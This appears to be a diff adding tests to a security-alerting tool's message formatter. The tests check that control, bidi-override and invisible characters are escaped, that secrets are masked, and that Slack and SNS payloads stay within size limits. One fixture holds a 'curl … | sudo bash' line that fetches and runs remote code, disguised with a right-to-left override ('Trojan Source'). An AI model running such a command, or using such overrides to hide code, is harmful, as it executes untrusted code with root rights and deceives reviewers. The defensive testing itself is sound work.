@@ -5,6 +5,8 @@ from __future__ import annotations
 
 import json
 import re
+import sys
+import unicodedata
 from copy import replace
 from typing import Any
 
@@ -12,11 +14,13 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from sessionguard.alerts import (
     CAP_SUMMARY_RULE_ID,
+    METADATA_MAX,
     SLACK_BLOCKS_MAX,
     SLACK_FIELD_TEXT_MAX,
     SLACK_HEADER_MAX,
     SLACK_SECTION_TEXT_MAX,
     SNS_COMMAND_MAX,
+    SNS_MESSAGE_MAX_BYTES,
     TRUNCATED,
     AlertContext,
     alert_record,
@@ -27,6 +31,7 @@ from sessionguard.alerts import (
     console_log_stream_url,
     fit_blocks,
     slack_escape,
+    sns_alert_message,
     sns_subject,
     technique_url,
     visible,
@@ -126,6 +131,39 @@ def test_escaping_within_a_limit_never_cuts_an_entity() -> None:
 
 def test_control_characters_are_shown_in_caret_notation_and_lone_surrogates_replaced() -> None:
     assert visible("a\x1b[31mb\x07\x7f\x9b\ud800\tc\nd") == "a^[[31mb^G^?\\x9b\ufffd\tc\nd"
+
+
+def test_bidi_overrides_and_invisible_characters_are_shown_as_escapes() -> None:
+    # "Trojan Source": a right-to-left override makes the tail of a command display reversed.
+    command = "curl -s https://x.example/i.sh | sudo bash #\u202e\u2066 lanigiro si siht \u2069\u2028\ufeff\u200b"
+    assert visible(command) == (
+        "curl -s https://x.example/i.sh | sudo bash #\\u202e\\u2066 lanigiro si siht \\u2069\\u2028\\ufeff\\u200b"
+    )
+    assert visible("tag\U000e0041") == "tag\\U000e0041"
+    assert visible("plain ascii and é ü 漢字") == "plain ascii and é ü 漢字"
+
+
+def test_every_format_and_separator_character_of_the_running_unicode_data_is_neutralised() -> None:
+    """The list in alerts.py is fixed (no import-time scan of the Unicode tables); this keeps it complete."""
+    unsafe = [chr(code) for code in range(sys.maxunicode + 1) if unicodedata.category(chr(code)) in {"Cf", "Zl", "Zp"}]
+    assert unsafe
+    assert [char for char in unsafe if visible(char) == char] == []
+
+
+FORMAT_CATEGORIES = {"Cf", "Zl", "Zp", "Cs", "Cc"}
+
+
+BIDI_AND_INVISIBLE = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029\ufeff\u200b"
+
+
+@settings(max_examples=500, deadline=None)
+@given(
+    st.text(alphabet=st.one_of(st.sampled_from(BIDI_AND_INVISIBLE), st.characters(exclude_categories=())), max_size=80)
+)
+def test_visible_text_has_no_invisible_or_reordering_characters(text: str) -> None:
+    shown = visible(text)
+    assert all(unicodedata.category(c) not in FORMAT_CATEGORIES or c in "\n\t" for c in shown)
+    shown.encode("utf-8")  # no lone surrogate
 
 
 # --- the console link -------------------------------------------------------------------------------------------
@@ -228,6 +266,12 @@ def test_blocks_beyond_fifty_are_cut_with_a_marker() -> None:
     assert "31 more blocks left out" in fitted[-1]["elements"][0]["text"]
 
 
+def test_slack_shows_the_time_as_code_so_it_cannot_render_markup() -> None:
+    message = build_slack_message(replace(ALERT, event_time="*URGENT* _call_ :rotating_light:"), CONTEXT)
+    when = next(f["text"] for f in message["blocks"][1]["fields"] if f["text"].startswith("*When*"))
+    assert when == "*When*\n`*URGENT* _call_ :rotating_light:`"
+
+
 def test_a_secret_in_metadata_is_masked_before_it_reaches_slack() -> None:
     leaked = "AKIAIOSFODNN7EXAMPLE"
     alert = replace(ALERT, user=f"arn:aws:sts::111122223333:assumed-role/Ops/{leaked}", instance_id=leaked)
@@ -269,6 +313,50 @@ def test_sns_command_is_cut_and_flagged_when_huge() -> None:
     assert len(record["command"]) == SNS_COMMAND_MAX
     assert record["command_truncated"] is True
     assert len(build_sns_message(replace(ALERT, command="x" * 1_000_000), CONTEXT).body.encode()) < 64 * 1024
+
+
+def test_every_metadata_field_is_cleaned_and_bounded_in_the_sns_record() -> None:
+    hostile = "AKIAIOSFODNN7EXAMPLE \x1b[2J\u202e\ud800" + "x" * 100_000
+    alert = replace(
+        ALERT,
+        user=hostile,
+        instance_id=hostile,
+        session_id=hostile,
+        event_time=hostile,
+        account_id=hostile,
+        region=hostile,
+        event_id=hostile,
+    )
+    context = AlertContext(hostile, hostile, "eu-west-1")
+    record = alert_record(alert, context)
+    for name in ("user", "instance_id", "session_id", "event_time", "account_id", "region", "event_id"):
+        value = record[name]
+        assert len(value) <= METADATA_MAX, name
+        assert "AKIAIOSFODNN7EXAMPLE" not in value, name
+        assert visible(value) == value, name
+    assert len(record["log_group"]) <= METADATA_MAX
+    assert len(record["log_stream"]) <= METADATA_MAX
+    assert len(record["session_log_url"]) < 10 * METADATA_MAX
+    body = build_sns_message(alert, context).body
+    body.encode("utf-8")
+    assert "When:     AKIA" not in body
+
+
+def test_an_sns_message_never_exceeds_the_publish_limit() -> None:
+    huge = "ü" * 200_000  # 2 bytes each in UTF-8
+    message = sns_alert_message("s", [huge, huge], {"a": huge, "b": huge, "n": 1}, Severity.HIGH, "SG-X")
+    assert len(message.body.encode()) <= SNS_MESSAGE_MAX_BYTES
+    record = json.loads(message.body.partition("Alert JSON:\n")[2])
+    assert record["n"] == 1
+    assert record["a"].endswith(TRUNCATED)
+    long_description = replace(ALERT, description="d" * 1_000_000, command="c" * 1_000_000)
+    assert len(build_sns_message(long_description, CONTEXT).body.encode()) <= SNS_MESSAGE_MAX_BYTES
+
+
+def test_a_lone_surrogate_anywhere_leaves_an_sns_message_that_encodes() -> None:
+    message = sns_alert_message("s", ["\ud800"], {"x": "\udfff"}, Severity.HIGH, "SG-\ud800", extra="\ud800")
+    message.body.encode("utf-8")
+    assert all(v["StringValue"].encode("utf-8") for v in message.attributes.values())
 
 
 def test_cap_summary_alert_names_the_cap_and_the_alert_held_back() -> None:
